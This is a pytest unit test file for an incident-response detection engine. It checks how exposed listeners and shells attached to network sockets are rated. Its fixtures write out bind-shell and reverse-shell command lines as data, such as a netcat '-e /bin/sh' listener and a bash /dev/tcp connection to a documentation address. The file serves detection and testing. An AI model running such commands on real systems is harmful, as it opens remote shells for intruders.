# Copyright (c) 2026, the incident.response contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Rules about sockets: what is open to others, shells on connections."""

from __future__ import annotations

from typing import Any

import pytest

from ansible_collections.incident.response.plugins.plugin_utils._detect.engine import Settings
from ansible_collections.incident.response.tests.unit.plugins.plugin_utils._detect.documents import Host

SOCKETS = ["socket:[41234]"] * 3


def test_http_server_of_python() -> None:
    host = Host()
    pid = host.runs("/usr/bin/python3.11", "unchanged", argv=["/usr/bin/python3", "-m", "http.server", "9090"], cwd="/tmp", unit="session-3.scope")
    host.listens(pid, 9090, family="ipv6", local_address="::", is_dual_stack=True)
    finding = host.finding()
    assert (finding.level, finding.rule) == ("medium", "exposed_listener")
    assert finding.entity["pid"] == pid
    for part in ("[::]:9090", "IPv4 as well", "http.server", "in /tmp"):
        assert part in finding.reason
    assert finding.next_step == "ansible web1 -m incident.response.port_facts -a ports=9090"


def test_all_ports_of_a_process_are_one_finding() -> None:
    host = Host()
    pid = host.runs("/usr/bin/python3.11", "unchanged", argv=["python3", "-c", "0"])
    host.listens(pid, 40001, "udp")
    host.listens(pid, 40002, "udp", family="ipv6", local_address="::")
    host.listens(pid, 40003, "udp", local_address="127.0.0.1", scope="loopback", exposed=False)
    finding = host.finding()
    assert finding.level == "medium"
    assert "udp 0.0.0.0:40001, udp [::]:40002" in finding.reason
    assert "40003" not in finding.reason
    assert finding.next_step.endswith("-a ports=40001,40002")


@pytest.mark.parametrize(
    ("path", "package_state", "port", "protocol", "level"),
    [
        ("/usr/sbin/sshd", "unchanged", 22, "tcp", None),
        ("/usr/sbin/sshd", "unchanged", 2222, "tcp", "low"),
        ("/usr/sbin/nginx", "unchanged", 443, "tcp", "info"),
        ("/usr/lib/postgresql/15/bin/postgres", "unchanged", 5432, "tcp", "low"),
        ("/usr/sbin/rpcbind", "unchanged", 111, "udp", "info"),
        ("/usr/sbin/chronyd", "unchanged", 123, "udp", "info"),
        ("/usr/sbin/avahi-daemon", "unchanged", 5353, "udp", "low"),
        ("/usr/bin/docker-proxy", "unchanged", 8080, "tcp", "low"),
        ("/usr/bin/nc.openbsd", "unchanged", 4444, "tcp", "medium"),
        ("/usr/bin/perl", "unchanged", 443, "tcp", "low"),
        ("/usr/local/bin/node_exporter", "unowned", 9100, "tcp", "medium"),
        ("/usr/local/bin/caddy", "unowned", 443, "tcp", "low"),
        ("/usr/sbin/dropbear", "unreadable", 2222, "tcp", "low"),
        ("/tmp/dropbear", "unowned", 2222, "tcp", "high"),
    ],
)
def test_a_listener_is_judged_by_program_and_port(path: str, package_state: str, port: int, protocol: str, level: str | None) -> None:
    host = Host()
    host.listens(host.runs(path, package_state), port, protocol)
    assert [finding.level for finding in host.findings()] == ([level] if level else [])


def test_the_operator_says_which_ports_may_be_open() -> None:
    host = Host()
    pid = host.runs("/usr/local/bin/node_exporter")
    host.listens(pid, 9100)
    host.listens(pid, 9100, "udp")
    finding = host.finding(Settings(expected_ports=frozenset(("9100/tcp",))))
    assert "udp" in finding.reason and "tcp" not in finding.reason


@pytest.mark.parametrize(
    ("fields", "level", "says"),
    [
        ({"exposed": False, "exposed_reason": "the packet filter drops it"}, "low", "the packet filter drops it"),
        ({"exposed": None}, "medium", "whether they reach it is not known"),
        ({"scope": "address", "local_address": "192.0.2.11"}, "medium", "192.0.2.11:4444"),
        ({"scope": "loopback", "local_address": "127.0.0.1", "exposed": False}, None, ""),
        ({"network_namespace": 4026532790}, "medium", "network namespace 4026532790"),
        ({"protocol": "raw"}, None, ""),
        ({"protocol": "unix", "scope": None}, None, ""),
        ({"is_listener": False, "state": "established"}, None, ""),
    ],
)
def test_who_can_reach_it(fields: dict[str, Any], level: str | None, says: str) -> None:
    host = Host()
    host.listens(host.runs("/usr/local/bin/worker"), 4444, **fields)
    findings = host.findings()
    assert [finding.level for finding in findings] == ([level] if level else [])
    assert all(says in finding.reason for finding in findings)


def test_services_of_the_system_that_are_scripts() -> None:
    for unit, script, level in (
        ("salt-master.service", "/usr/bin/salt-master", "low"),
        ("session-3.scope", "/usr/bin/salt-master", "medium"),
        ("user@1000.service", "/usr/bin/salt-master", "medium"),
        ("salt-master.service", "/usr/local/bin/x.py", "medium"),
        ("salt-master.service", "/usr/bin/../../tmp/x.py", "medium"),
    ):
        host = Host()
        host.listens(host.runs("/usr/bin/python3.11", "unchanged", argv=["/usr/bin/python3", script], unit=unit), 4506)
        assert host.finding().level == level, script


def test_the_worst_of_those_that_hold_a_socket_is_named() -> None:
    host = Host()
    first = host.runs("/usr/sbin/nginx", "unchanged")
    second = host.runs("/usr/local/bin/worker")
    host.listens(first, 8443, pids=[first, second])
    finding = host.finding()
    assert (finding.level, finding.entity["pid"]) == ("medium", second)


def test_what_systemd_holds_for_a_service_is_the_services() -> None:
    host = Host()
    host.runs("/usr/lib/systemd/systemd", "unchanged", pid=1, ppid=0)
    service = host.runs("/usr/sbin/sshd", "unchanged")
    host.listens(service, 2222, pids=[1, service])
    assert host.finding().entity["pid"] == service


def test_a_socket_of_nobody_is_told_as_such() -> None:
    host = Host()
    host.listens(None, 2049)
    finding = host.finding()
    assert finding.level == "low"
    assert finding.entity == {"kind": "socket", "protocol": "tcp", "address": "0.0.0.0", "port": 2049}
    host = Host()
    host.listens(None, 2024, owner_state="unreadable")
    assert "could not be seen" in host.finding().reason


def test_sockets_of_this_run_are_silent() -> None:
    host = Host()
    host.listens(host.runs("/usr/sbin/sshd", "unchanged", is_own=True), 2222)
    assert host.findings() == []


def test_reverse_shell_even_to_loopback() -> None:
    host = Host()
    server = host.runs("/usr/bin/python3.11", "unchanged", argv=["python3", "-c", "0"])
    host.listens(server, 4445, local_address="127.0.0.1", scope="loopback", exposed=False)
    shell = host.runs("/usr/bin/bash", "unchanged", argv=["bash", "-i"], stdio=SOCKETS)
    host.is_connected([shell], ("127.0.0.1", 51690), ("127.0.0.1", 4445), 41234)
    finding = host.finding()
    assert (finding.level, finding.rule) == ("high", "shell_with_socket")
    assert finding.entity["pid"] == shell
    assert "127.0.0.1:51690" in finding.reason and "127.0.0.1:4445" in finding.reason
    assert "it connected to there" in finding.reason
    assert finding.evidence["remote"] == "127.0.0.1:4445"


def test_bind_shell() -> None:
    host = Host()
    relay = host.runs("/usr/bin/nc.traditional", "unchanged", argv=["nc", "-lp", "4444", "-e", "/bin/sh"])
    host.listens(relay, 4444)
    shell = host.runs("/usr/bin/dash", "unchanged", name="sh", argv=["sh", "-i"], stdio=SOCKETS)
    host.is_connected([shell], ("192.0.2.11", 4444), ("203.0.113.5", 51000), 41234)
    found = {finding.entity["pid"]: finding for finding in host.findings()}
    assert found[shell].level == "high"
    assert "somebody connected to it" in found[shell].reason
    assert found[relay].level == "medium"


def test_interpreter_and_its_shell_on_one_socket_are_one_finding() -> None:
    host = Host()
    parent = host.runs("/usr/bin/python3.11", "unchanged", argv=["python3", "-c", "0"], stdio=SOCKETS)
    child = host.runs("/usr/bin/dash", "unchanged", name="sh", argv=["/bin/sh", "-i"], stdio=SOCKETS)
    host.is_connected([parent, child], ("192.0.2.11", 51690), ("203.0.113.5", 443), 41234)
    assert host.finding().entity["pids"] == [parent, child]


def _carried(carrier_ends: list[str], shell_ends: list[str], path: str = "/usr/bin/perl", argv: tuple[str, ...] = ("sh", "-i"), listens: bool = False) -> Host:
    """A program with a connection to elsewhere, and its child, a shell."""
    host = Host()
    carrier = host.runs(path, "unchanged", argv=["-"], stdio=carrier_ends)
    host.is_connected([carrier], ("192.0.2.11", 51690), ("203.0.113.5", 443), 41234)
    if listens:
        host.listens(carrier, 8888, local_address="127.0.0.1", scope="loopback", exposed=False)
    host.runs("/usr/bin/dash", "unchanged", name="sh", argv=list(argv), stdio=shell_ends, ppid=carrier)
    return host


@pytest.mark.parametrize(
    ("carrier", "shell"),
    [
        (["pipe:[2]", "/tmp/f", "/dev/null"], ["pipe:[1]", "pipe:[2]", "pipe:[2]"]),
        (["/dev/null", "/tmp/f", "/dev/null"], ["/tmp/f", "/dev/null", "/dev/null"]),
        (["/dev/null"] * 3, ["/dev/pts/3"] * 3),
        (["/dev/null"] * 3, ["pipe:[1]", "pipe:[2]", "pipe:[2]"]),
        (["/dev/null"] * 3, ["socket:[7]"] * 3),
    ],
)
def test_a_shell_that_is_put_through_to_a_connection(carrier: list[str], shell: list[str]) -> None:
    finding = _carried(carrier, shell).finding()
    assert (finding.level, finding.rule) == ("high", "shell_with_socket")
    assert finding.entity["name"] == "sh"
    assert "/usr/bin/perl" in finding.reason and "203.0.113.5:443" in finding.reason


def test_a_program_that_offers_shells_on_its_own_port_may_be_meant_to() -> None:
    assert _carried(["/dev/null"] * 3, ["/dev/pts/3"] * 3, listens=True).finding().level == "medium"
    assert _carried(["/dev/null"] * 3, ["/dev/pts/3"] * 3, path="/usr/bin/nc.openbsd", listens=True).finding().level == "high"


@pytest.mark.parametrize(
    ("carrier", "shell", "path", "argv"),
    [
        (["/dev/pts/3"] * 3, ["/dev/pts/3"] * 3, "/usr/bin/perl", ("sh",)),
        (["/dev/null"] * 3, ["pipe:[1]", "pipe:[2]", "pipe:[2]"], "/usr/bin/perl", ("sh", "-c", "id")),
        (["/dev/null"] * 3, ["pipe:[1]", "pipe:[2]", "pipe:[2]"], "/usr/bin/perl", ("sh", "/usr/local/bin/backup")),
        (["/dev/null"] * 3, ["/dev/null", "pipe:[2]", "pipe:[2]"], "/usr/bin/perl", ("sh",)),
        (["/dev/null"] * 3, ["/dev/pts/3"] * 3, "/usr/sbin/sshd", ("sh",)),
        ([], [], "/usr/bin/perl", ("sh",)),
    ],
)
def test_shells_that_programs_with_connections_start_for_their_work(carrier: list[str], shell: list[str], path: str, argv: tuple[str, ...]) -> None:
    assert _carried(carrier, shell, path, argv).findings() == []


def test_a_renamed_shell_is_still_one() -> None:
    host = Host()
    shell = host.runs("/usr/local/bin/worker", same_as="/usr/bin/bash", stdio=SOCKETS)
    host.is_connected([shell], ("192.0.2.11", 51690), ("203.0.113.5", 443), 41234)
    assert host.finding().level == "high"


def test_super_servers_start_scripts_on_sockets() -> None:
    for argv, level in ((["/bin/sh", "/usr/local/bin/status.sh"], "low"), (["/bin/bash", "-i"], "high"), (["/bin/sh", "-c", "exec /bin/sh -i"], "high")):
        host = Host()
        host.runs("/usr/lib/systemd/systemd", "unchanged", pid=1, ppid=0)
        host.listens(1, 22, local_address="127.0.0.1", scope="loopback", local_port=7777)
        shell = host.runs("/usr/bin/dash", "unchanged", name="sh", argv=argv, stdio=SOCKETS)
        host.is_connected([shell], ("127.0.0.1", 7777), ("127.0.0.1", 50000), 41234)
        assert host.finding().level == level, argv


def test_shells_on_other_sockets_are_silent() -> None:
    """Pipes, terminals, the journal's unix socket: none of them is a connection of IP."""
    host = Host()
    for stdio in (["pipe:[1]"] * 3, ["/dev/pts/0"] * 3, ["/dev/null", "socket:[77]", "socket:[77]"], ["", "", ""], ["socket:[x]"], None):
        host.runs("/usr/bin/bash", "unchanged", argv=["bash"], stdio=stdio)
    assert host.findings() == []


def test_programs_that_are_no_shells_may_have_sockets() -> None:
    host = Host()
    daemon = host.runs("/usr/sbin/in.tftpd", "unchanged", stdio=SOCKETS)
    host.is_connected([daemon], ("192.0.2.11", 69), ("203.0.113.5", 51000), 41234)
    assert host.findings() == []


def test_a_shell_that_opened_a_connection_itself() -> None:
    host = Host()
    shell = host.runs("/usr/bin/bash", "unchanged", argv=["bash", "-c", "exec 5<>/dev/tcp/203.0.113.5/443"])
    reader = host.runs("/usr/bin/cat", "unchanged")
    host.is_connected([shell, reader], ("192.0.2.11", 51690), ("203.0.113.5", 443), 41234)
    finding = host.finding()
    assert (finding.level, finding.entity["pid"]) == ("medium", shell)


def test_a_connection_that_a_shell_inherited_is_not_its_own() -> None:
    host = Host()
    daemon = host.runs("/usr/sbin/openvpn", "unchanged")
    script = host.runs("/usr/bin/dash", "unchanged", name="sh", argv=["sh", "/etc/openvpn/up"])
    host.is_connected([daemon, script], ("192.0.2.11", 51690), ("203.0.113.5", 443), 41234)
    assert host.findings() == []
